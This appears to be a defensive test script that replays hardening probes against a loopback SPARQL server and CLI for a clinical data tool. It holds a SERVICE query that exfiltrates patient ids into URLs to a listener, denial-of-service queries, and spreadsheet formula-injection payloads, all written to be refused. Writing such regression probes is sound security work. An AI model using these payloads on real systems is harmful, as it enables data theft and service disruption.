#!/usr/bin/env bash
# bench/attack.sh: replays every probe of the hardening review against bin/mcrc and a served
# store, on loopback only, and prints one line per probe: "PASS name" or "FAIL name (why)".
# Exits 1 when any probe fails.
#
#   bench/attack.sh
#
# 1. builds target/mcrc.jar if needed (bin/mcrc does);
# 2. loads ontology/examples/cohort.csv into a new store in a temporary directory;
# 3. serves it with bin/mcrc serve --port 0 --timeout 3s --access-log FILE on 127.0.0.1;
# 4. starts a listener on a free 127.0.0.1 port (python3) that counts connections and never
#    answers, for the SERVICE probes;
# 5. replays the probes: SERVICE (fixed IRI, SILENT with ids in the URL, a hanging upstream),
#    queries that ignored the timeout (aggregate inside OPTIONAL, ORDER BY over a cross join)
#    with ASK {} asked meanwhile, a 10 MB query, ?timeout=0.5, CORS with Origin: null, the
#    access log; then the command line: a 45-byte JSON with 1e999999999, a million-digit CSV cell,
#    a 10 MB cell in a message, a control character in patient_id (classify and load), --out onto
#    its input, a device, a symbolic link and a full disk (ulimit -f), formulas in CSV output,
#    Turtle with %zz, misspelt properties and Latin-1, a repeated "patients" key, and two first
#    loads racing on a new directory.
#
# Every command is bounded by timeout(1); the whole run takes a few minutes on 2 cores. All
# traffic is to 127.0.0.1. Needs curl and python3.
set -uo pipefail
root="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
cd "$root"
command -v curl >/dev/null || { echo "bench/attack.sh: needs curl" >&2; exit 1; }
command -v python3 >/dev/null || { echo "bench/attack.sh: needs python3 (the loopback listener)" >&2; exit 1; }

work="$(mktemp -d "${TMPDIR:-/tmp}/mcrc-attack.XXXXXX")"
pids=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
  wait 2>/dev/null
  rm -rf "$work"
}
trap cleanup EXIT

failures=0
pass() { echo "PASS $1"; }
fail() { echo "FAIL $1 (${2:-})"; failures=$((failures + 1)); }
say() { echo "bench/attack.sh: $*" >&2; }
mcrc() { timeout 300 bin/mcrc "$@"; }

# --- the store, the server and the listener --------------------------------------------------
say "loading the example cohort into $work/store"
if ! mcrc load --store "$work/store" ontology/examples/cohort.csv >"$work/load.out" 2>&1; then
  cat "$work/load.out" >&2; echo "FAIL setup (load)"; exit 1
fi
bin/mcrc serve --store "$work/store" --port 0 --timeout 3s --access-log "$work/access.log" >"$work/serve.out" 2>"$work/serve.err" &
pids+=($!)
base=""
for _ in $(seq 1 300); do
  base="$(grep -o 'serving http://127\.0\.0\.1:[0-9]*/' "$work/serve.out" 2>/dev/null | sed 's/^serving //')"
  [ -n "$base" ] && break
  sleep 0.2
done
[ -n "$base" ] || { cat "$work/serve.err" >&2; echo "FAIL setup (serve did not start)"; exit 1; }
sparql="${base}mcrc/sparql"
say "serving $sparql"

python3 - "$work/listener" <<'EOF' &
import socket, sys, threading, time
out = sys.argv[1]
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 0))
s.listen(64)
open(out + ".port", "w").write(str(s.getsockname()[1]))
held = []
end = time.time() + 900
s.settimeout(1)
while time.time() < end:
    try:
        c, _ = s.accept()
    except socket.timeout:
        continue
    held.append(c)            # never answered: a service that hangs
    with open(out + ".count", "a") as f:
        f.write("1\n")
EOF
pids+=($!)
for _ in $(seq 1 50); do [ -s "$work/listener.port" ] && break; sleep 0.1; done
lport="$(cat "$work/listener.port")"
connections() { [ -f "$work/listener.count" ] && wc -l <"$work/listener.count" || echo 0; }

# code FILE [curl args...]: prints the HTTP status, the body goes to FILE
code() { local f="$1"; shift; curl -s -o "$f" -w '%{http_code}' --max-time 60 "$@"; }
query() { code "$1" -G --data-urlencode "query=$2" "${@:3}" "$sparql"; }

# --- SERVICE ------------------------------------------------------------------------------
q_fixed="SELECT ?x WHERE { SERVICE <http://127.0.0.1:$lport/internal.json> { ?s ?p ?x } }"
q_exfil="PREFIX mcrc: <https://w3id.org/mcrc-kg/mcrc#> SELECT ?id WHERE { ?p mcrc:patient_id ?id BIND(IRI(CONCAT(\"http://127.0.0.1:$lport/exfil/\", ENCODE_FOR_URI(?id))) AS ?u) SERVICE SILENT ?u { ?s ?q ?o } }"
c1="$(query "$work/b1" "$q_fixed")"; c2="$(query "$work/b2" "$q_exfil")"
sleep 1
if [ "$c1" = 400 ] && [ "$c2" = 400 ] && [ "$(connections)" = 0 ] && grep -q 'SERVICE is disabled' "$work/b1"; then
  pass service-ssrf-and-exfiltration
else
  fail service-ssrf-and-exfiltration "status $c1/$c2, listener connections $(connections)"
fi

# attack NAME QUERY EXPECTED N: N clients send QUERY 2 times each while ASK {} is asked; every
# ASK must be answered 200 within 20 s, every attack must end with EXPECTED.
attack() {
  local name="$1" q="$2" want="$3" n="$4" i bad=0 askbad="" attackers=()
  for i in $(seq 1 "$n"); do
    # one write per line (O_APPEND): lines of concurrent attackers do not mix
    ( for k in 1 2; do printf '%s\n' "$(query /dev/null "$q")" >>"$work/$name.codes"; done ) &
    attackers+=($!)
  done
  sleep 0.5
  for i in 1 2 3; do
    local r; r="$(curl -s -o "$work/ask" -w '%{http_code} %{time_total}' --max-time 20 -G --data-urlencode 'query=ASK {}' "$sparql")"
    [ "${r%% *}" = 200 ] && grep -q true "$work/ask" || askbad="ASK {} answered '$r'"
  done
  wait "${attackers[@]}" 2>/dev/null
  while read -r c; do [ -z "$c" ] && continue; [ "$c" = "$want" ] || bad=$((bad + 1)); done <"$work/$name.codes"
  if [ -z "$askbad" ] && [ "$bad" = 0 ]; then pass "$name"; else fail "$name" "${askbad:-$bad attacks did not answer $want}"; fi
}
attack service-hanging-upstream "SELECT ?x WHERE { SERVICE <http://127.0.0.1:$lport/hang> { ?s ?p ?x } }" 400 16
[ "$(connections)" = 0 ] || fail service-hanging-upstream-no-connection "$(connections) connections"

# --- timeouts ------------------------------------------------------------------------------
timed() { local t0 t1; t0=$(date +%s%N); "$@"; t1=$(date +%s%N); echo $(((t1 - t0) / 1000000)) >"$work/ms"; }
for probe in "timeout-optional-aggregate|SELECT * WHERE { OPTIONAL { SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f } } }" \
             "timeout-order-by-cross-join|SELECT * WHERE { ?a ?b ?c . ?d ?e ?f } ORDER BY ?c ?f"; do
  name="${probe%%|*}"; q="${probe#*|}"
  timed query "$work/t" "$q" >"$work/code"
  c="$(cat "$work/code")"; ms="$(cat "$work/ms")"
  if [ "$c" = 503 ] && [ "$ms" -lt 15000 ]; then pass "$name"; else fail "$name" "status $c after $ms ms with --timeout 3s"; fi
  attack "$name-under-load" "$q" 503 4
done

big="$work/big.rq"
{ printf 'SELECT * WHERE { ?s ?p ?o } #'; head -c 10485760 /dev/zero | tr '\0' x; } >"$big"
timed code "$work/big" -H 'Content-Type: application/sparql-query' --data-binary "@$big" "$sparql" >"$work/code"
c="$(cat "$work/code")"; ms="$(cat "$work/ms")"
if [ "$c" = 413 ] && [ "$ms" -lt 10000 ]; then pass query-10mb-refused; else fail query-10mb-refused "status $c after $ms ms"; fi

timed query "$work/t" "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }" --data-urlencode timeout=0.5 >"$work/code"
c="$(cat "$work/code")"; ms="$(cat "$work/ms")"
if [ "$c" = 503 ] && [ "$ms" -lt 2500 ]; then pass timeout-parameter-half-a-second; else fail timeout-parameter-half-a-second "status $c after $ms ms (server timeout 3 s)"; fi
timed query "$work/t" "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }" --data-urlencode timeout=3600 >"$work/code"
c="$(cat "$work/code")"; ms="$(cat "$work/ms")"
if [ "$c" = 503 ] && [ "$ms" -lt 15000 ]; then pass timeout-parameter-cannot-raise; else fail timeout-parameter-cannot-raise "status $c after $ms ms"; fi

# --- CORS ------------------------------------------------------------------------------------
h="$(curl -s -D - -o /dev/null --max-time 20 -H 'Origin: null' -G --data-urlencode 'query=ASK {}' "$sparql" | tr -d '\r')"
if grep -qi '^access-control-allow-origin: \*$' <<<"$h" && ! grep -qi '^access-control-allow-credentials' <<<"$h"; then
  pass cors-without-credentials
else
  fail cors-without-credentials "$(grep -i '^access-control' <<<"$h" | tr '\n' ' ')"
fi

# --- the endpoint's CSV ---------------------------------------------------------------------------
c="$(query "$work/csv" "SELECT ?id WHERE { BIND('=HYPERLINK(\"http://127.0.0.1/\",\"x\")' AS ?id) }" -H 'Accept: text/csv')"
if [ "$c" = 200 ] && grep -q "^\"'=HYPERLINK" "$work/csv"; then pass endpoint-csv-formula; else fail endpoint-csv-formula "status $c: $(head -c 200 "$work/csv")"; fi

# --- the access log ------------------------------------------------------------------------------
if [ -s "$work/access.log" ] && ! grep -q -e exfil -e 'V01' -e 'SELECT' "$work/access.log" && ! grep -q exfil "$work/serve.err" "$work/serve.out" \
   && grep -qE '^[0-9T:.-]+Z 127\.0\.0\.1 GET /mcrc/sparql 200 [0-9]+ [0-9]+ms$' "$work/access.log"; then
  pass access-log-without-queries-or-service-urls
else
  fail access-log-without-queries-or-service-urls "$(head -c 300 "$work/access.log")"
fi

kill "${pids[0]}" 2>/dev/null

# --- the command line ------------------------------------------------------------------------------
# expect NAME EXIT ID CMD...: the command exits EXIT and its stderr has [ID]
expect() {
  local name="$1" want="$2" id="$3"; shift 3
  mcrc "$@" >"$work/out" 2>"$work/err"; local got=$?
  if [ "$got" = "$want" ] && grep -qF "[$id]" "$work/err"; then pass "$name"; else fail "$name" "exit $got: $(head -c 300 "$work/err")"; fi
}
printf '[{"patient_id":"N1","cea_ng_ml":1e999999999}]' >"$work/exp.json"
expect json-huge-exponent 2 data#too-long classify "$work/exp.json"
{ printf 'patient_id,cea_ng_ml\nP1,'; head -c 1000000 /dev/zero | tr '\0' 1; printf '\n'; } >"$work/digits.csv"
expect csv-million-digits 2 data#too-long classify "$work/digits.csv"
{ printf 'patient_id,primary_site\nP1,'; head -c 10000000 /dev/zero | tr '\0' x; printf '\n'; } >"$work/cell.csv"
mcrc classify "$work/cell.csv" >/dev/null 2>"$work/err"
if [ "$(wc -c <"$work/err")" -lt 2000 ] && grep -q '(10000000 chars)' "$work/err"; then pass message-truncated; else fail message-truncated "$(wc -c <"$work/err") bytes on stderr"; fi
printf 'patient_id,ecog\n"P\x012",1\n' >"$work/ctrl.csv"
expect control-character-id 2 data#bad-character classify "$work/ctrl.csv"
expect control-character-id-load 2 data#bad-character load --store "$work/ctrl-store" "$work/ctrl.csv"
[ -e "$work/ctrl-store" ] && fail control-character-id-load-store-untouched "the store was created"

cp src/test/resources/bad-input/good-patient.csv "$work/self.csv"
expect out-onto-input 2 io#out-is-input classify "$work/self.csv" --out "$work/self.csv"
cmp -s src/test/resources/bad-input/good-patient.csv "$work/self.csv" || fail out-onto-input-intact "the input changed"
expect out-onto-device 2 io#out-not-a-file classify "$work/self.csv" --out /dev/null
[ -c /dev/null ] || fail out-onto-device-intact "/dev/null is no longer a device"
echo keep >"$work/target"; ln -s "$work/target" "$work/link"
expect out-onto-symlink 2 io#out-not-a-file classify "$work/self.csv" --out "$work/link"
[ -L "$work/link" ] && [ "$(cat "$work/target")" = keep ] || fail out-onto-symlink-intact "the link or its target changed"
( ulimit -f 8; mcrc classify ontology/examples/cohort.csv --format json --out "$work/full.json" >"$work/out" 2>"$work/err" ); got=$?
if [ "$got" = 1 ] && grep -qF '[io#write-failed]' "$work/err" && [ ! -e "$work/full.json" ]; then pass out-full-disk; else fail out-full-disk "exit $got: $(head -c 300 "$work/err")"; fi

if [ -w /dev/full ]; then
  mcrc classify ontology/examples/cohort.csv --format json >/dev/full 2>"$work/err"; got=$?
  if [ "$got" = 1 ] && grep -qF '[io#write-failed]' "$work/err"; then pass stdout-full-disk; else fail stdout-full-disk "exit $got: $(head -c 300 "$work/err")"; fi
fi

printf 'patient_id,ecog\n"=HYPERLINK(""http://127.0.0.1/?""&A1,""x"")",0\n' >"$work/formula.csv"
mcrc classify "$work/formula.csv" --format csv >"$work/out" 2>"$work/err"
if grep -q "^\"'=HYPERLINK" "$work/out" && ! grep -q '^"=HYPERLINK' "$work/out"; then pass classify-csv-formula; else fail classify-csv-formula "$(head -c 200 "$work/out")"; fi

printf '@prefix mcrc: <https://w3id.org/mcrc-kg/mcrc#> .\n<https://w3id.org/mcrc-kg/patient/T%%zz> a mcrc:Patient ; mcrc:ecog 1 .\n' >"$work/zz.ttl"
expect turtle-bad-percent-encoding 2 data#malformed classify "$work/zz.ttl"
grep -q 'T%zz' "$work/err" || fail turtle-bad-percent-encoding-located "no subject in: $(head -c 200 "$work/err")"
printf '@prefix mcrc: <https://w3id.org/mcrc-kg/mcrc#> .\n<https://w3id.org/mcrc-kg/patient/T1> mcrc:ecgo 1 ; mcrc:flr_percnt 25.0 .\n' >"$work/misspelt.ttl"
expect turtle-all-properties-misspelt 2 data#unknown-field classify "$work/misspelt.ttl"
printf '@prefix mcrc: <https://w3id.org/mcrc-kg/mcrc#> .\n<https://w3id.org/mcrc-kg/patient/T1> mcrc:patient_id "Mu\xf1oz" .\n' >"$work/latin1.ttl"
expect turtle-latin1 2 data#malformed classify "$work/latin1.ttl"
printf '{"patients": [{"patient_id": "A1"}], "patients": [{"patient_id": "A2"}]}' >"$work/twice.json"
expect json-repeated-patients-key 2 data#malformed classify "$work/twice.json"

# two first loads racing on a new directory: one may find the store locked, neither may call it foreign
race_ok=1
for i in 1 2; do
  d="$work/race$i"
  mcrc load --store "$d" src/test/resources/vignettes/V01.csv >"$work/r1.out" 2>"$work/r1.err" & a=$!
  mcrc load --store "$d" src/test/resources/vignettes/V21.csv >"$work/r2.out" 2>"$work/r2.err" & b=$!
  wait $a; wait $b
  grep -q 'store#not-a-store' "$work/r1.err" "$work/r2.err" && race_ok=0
done
if [ "$race_ok" = 1 ]; then pass two-first-loads-racing; else fail two-first-loads-racing "store#not-a-store"; fi

say "$failures probe(s) failed"
[ "$failures" = 0 ]
